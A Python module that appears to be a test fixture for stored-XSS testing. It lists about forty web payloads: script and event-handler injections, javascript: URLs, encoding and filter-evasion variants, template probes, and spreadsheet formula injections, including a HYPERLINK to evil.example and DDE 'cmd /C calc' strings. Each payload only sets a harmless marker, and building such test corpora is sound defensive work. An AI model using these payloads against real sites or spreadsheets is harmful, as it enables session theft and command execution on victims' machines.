"""The stored-XSS corpus: Moodle's tricky string, OWASP's filter-evasion cheat sheet, Markdown
tricks and spreadsheet formulas. Each payload carries MARK, and would set window.__xss if a
browser ran it."""

from __future__ import annotations

MARK = "XSSMARK"
MOODLE = "< > & &lt; &gt; &amp; ' \\' 碁 \\ \\\\"
RUN = "window.__xss=1"

PAYLOADS = [
    f"<script>{RUN}//{MARK}</script>",
    f'"><script>{RUN}//{MARK}</script>',
    f"'><img src=x onerror={RUN} alt={MARK}>",
    f'<img src=x onerror="{RUN}" title={MARK}>',
    f"<svg/onload={RUN} id={MARK}>",
    f"</textarea><script>{RUN}//{MARK}</script>",
    f"</title><script>{RUN}//{MARK}</script>",
    f"' onmouseover='{RUN}' data-x='{MARK}",
    f'" onfocus="{RUN}" autofocus data-x="{MARK}',
    f"[{MARK}](javascript:{RUN})",
    f'![" onerror={RUN} {MARK}](x)',
    f'<a href="javascript:{RUN}">{MARK}</a>',
    f'<iframe src="javascript:{RUN}" name={MARK}>',
    f"<body onload={RUN} class={MARK}>",
    f"<details open ontoggle={RUN} id={MARK}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN} id={MARK}>",
    f"<style>@import 'javascript:{RUN}';</style>{MARK}",
    f'<base href="javascript:/{MARK}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}" id={MARK}>',
    f'<object data="javascript:{RUN}" id={MARK}>',
    f'<embed src="javascript:{RUN}" id={MARK}>',
    f'<form action="javascript:{RUN}" id={MARK}><button>x</button></form>',
    f"<input autofocus onfocus={RUN} id={MARK}>",
    f'<video><source onerror="{RUN}" id={MARK}></video>',
    f"<IMG SRC=JaVaScRiPt:{RUN} ALT={MARK}>",
    f"<IMG SRC=`javascript:{RUN}` ALT={MARK}>",
    f'<div style="background:url(javascript:{RUN})" id={MARK}>',
    f"{{{{7*7}}}}{MARK}",
    f"${{7*7}}{MARK}",
    f"javascript:{RUN}//{MARK}",
    f"&lt;script&gt;{RUN}//{MARK}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}//{MARK}%3C/script%3E",
    f"<scr<script>ipt>{RUN}//{MARK}</script>",
    f"<<SCRIPT>{RUN}//{MARK}<</SCRIPT>",
    f'"><svg><animate onbegin={RUN} attributeName=x dur=1s id={MARK}>',
    f'<a href="&#106;avascript:{RUN}">{MARK}</a>',
    f'[x](&#106;avascript:{RUN} "{MARK}")',
    f'=HYPERLINK("http://evil.example/{MARK}","x")',
    f"+cmd|' /C calc'!A0 {MARK}",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    f"{MOODLE} {MARK}",
]
SHORT = [p for p in PAYLOADS if len(p) <= 40]  # for 40-character columns (usernames)
